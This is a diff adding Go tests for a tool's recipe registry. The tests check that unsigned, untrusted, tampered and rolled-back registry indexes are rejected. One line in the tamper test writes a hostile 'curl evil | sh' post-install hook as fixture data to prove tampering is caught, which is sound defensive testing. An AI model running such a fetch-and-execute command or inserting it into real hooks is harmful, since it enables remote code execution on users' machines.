@@ -0,0 +1,130 @@
+package recipe_test
+
+import (
+	"context"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/songzhibin97/vman/internal/recipe"
+	"github.com/songzhibin97/vman/pkg/types"
+)
+
+// writeRegistry 创建包含一个 recipe 的注册表目录，privateKey 不为空时签名
+func writeRegistry(t *testing.T, privateKey string) string {
+	dir := t.TempDir()
+	require.NoError(t, os.MkdirAll(filepath.Join(dir, "mytool", "hooks"), 0755))
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "mytool", "recipe.toml"), []byte(`
+name = "mytool"
+description = "内部工具"
+
+[download]
+type = "direct"
+url_template = "https://example.com/mytool-{version}-{os}-{arch}"
+`), 0644))
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "mytool", "hooks", "post-install"), []byte("#!/bin/sh\n"), 0644))
+
+	index, err := recipe.BuildIndex(dir)
+	require.NoError(t, err)
+	require.NoError(t, os.WriteFile(filepath.Join(dir, recipe.IndexFile), index, 0644))
+	if privateKey != "" {
+		signature, err := recipe.SignIndex(privateKey, index)
+		require.NoError(t, err)
+		require.NoError(t, os.WriteFile(filepath.Join(dir, recipe.SignatureFile), []byte(signature), 0644))
+	}
+	return dir
+}
+
+func TestUpdateRegistry(t *testing.T) {
+	public, private, err := recipe.GenerateKey()
+	require.NoError(t, err)
+	_, otherPrivate, err := recipe.GenerateKey()
+	require.NoError(t, err)
+
+	configDir := t.TempDir()
+	ctx := context.Background()
+	update := func(dir string, allowUnsigned bool) (*recipe.UpdateResult, error) {
+		server := httptest.NewServer(http.FileServer(http.Dir(dir)))
+		defer server.Close()
+		registry := types.RecipeRegistry{Name: "internal", URL: server.URL, PublicKeys: []string{public}}
+		return recipe.UpdateRegistry(ctx, server.Client(), registry, configDir, allowUnsigned)
+	}
+
+	signed := writeRegistry(t, private)
+	result, err := update(signed, false)
+	require.NoError(t, err)
+	assert.True(t, result.Signed)
+	assert.Equal(t, 1, result.Recipes)
+	assert.Equal(t, 2, result.Files)
+
+	r, err := recipe.NewRegistry(recipe.RegistryDir(configDir, "internal")).Lookup("mytool")
+	require.NoError(t, err)
+	assert.Equal(t, "内部工具", r.Metadata.Description)
+	index, ok, err := recipe.LocalIndex(configDir, "internal")
+	require.NoError(t, err)
+	assert.True(t, ok)
+	assert.Equal(t, []string{"mytool"}, index.Recipes())
+
+	// 没有签名的注册表默认拒绝
+	unsigned := writeRegistry(t, "")
+	_, err = update(unsigned, false)
+	assert.ErrorIs(t, err, recipe.ErrUnsigned)
+	result, err = update(unsigned, true)
+	require.NoError(t, err)
+	assert.False(t, result.Signed)
+
+	// 不可信的发布者签名时即使允许未签名也拒绝
+	untrusted := writeRegistry(t, otherPrivate)
+	_, err = update(untrusted, true)
+	assert.ErrorIs(t, err, recipe.ErrBadSignature)
+
+	// 签名后被篡改的文件被拒绝，本地副本保持不变
+	signed = writeRegistry(t, private)
+	_, err = update(signed, false)
+	require.NoError(t, err)
+	require.NoError(t, os.WriteFile(filepath.Join(signed, "mytool", "hooks", "post-install"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0644))
+	_, err = update(signed, false)
+	assert.ErrorContains(t, err, "does not match the registry index")
+	hook, err := os.ReadFile(filepath.Join(recipe.RegistryDir(configDir, "internal"), "mytool", "hooks", "post-install"))
+	require.NoError(t, err)
+	assert.Equal(t, "#!/bin/sh\n", string(hook))
+
+	// 另一个注册表的公钥不能为该注册表签名
+	server := httptest.NewServer(http.FileServer(http.Dir(writeRegistry(t, otherPrivate))))
+	defer server.Close()
+	_, err = recipe.UpdateRegistry(ctx, server.Client(), types.RecipeRegistry{Name: "internal", URL: server.URL}, configDir, true)
+	assert.ErrorIs(t, err, recipe.ErrBadSignature)
+}
+
+func TestUpdateRegistryRejectsRollback(t *testing.T) {
+	public, private, err := recipe.GenerateKey()
+	require.NoError(t, err)
+	configDir := t.TempDir()
+	update := func(dir string) error {
+		server := httptest.NewServer(http.FileServer(http.Dir(dir)))
+		defer server.Close()
+		registry := types.RecipeRegistry{Name: "internal", URL: server.URL, PublicKeys: []string{public}}
+		_, err := recipe.UpdateRegistry(context.Background(), server.Client(), registry, configDir, false)
+		return err
+	}
+
+	older := writeRegistry(t, private)
+	time.Sleep(10 * time.Millisecond)
+	newer := writeRegistry(t, private)
+	require.NoError(t, update(newer))
+	require.NoError(t, update(newer))
+
+	// 重放较旧的已签名索引被拒绝，本地副本保持不变
+	assert.ErrorIs(t, update(older), recipe.ErrRollback)
+	local, err := os.ReadFile(filepath.Join(recipe.RegistryDir(configDir, "internal"), recipe.IndexFile))
+	require.NoError(t, err)
+	current, err := os.ReadFile(filepath.Join(newer, recipe.IndexFile))
+	require.NoError(t, err)
+	assert.Equal(t, string(current), string(local))
+}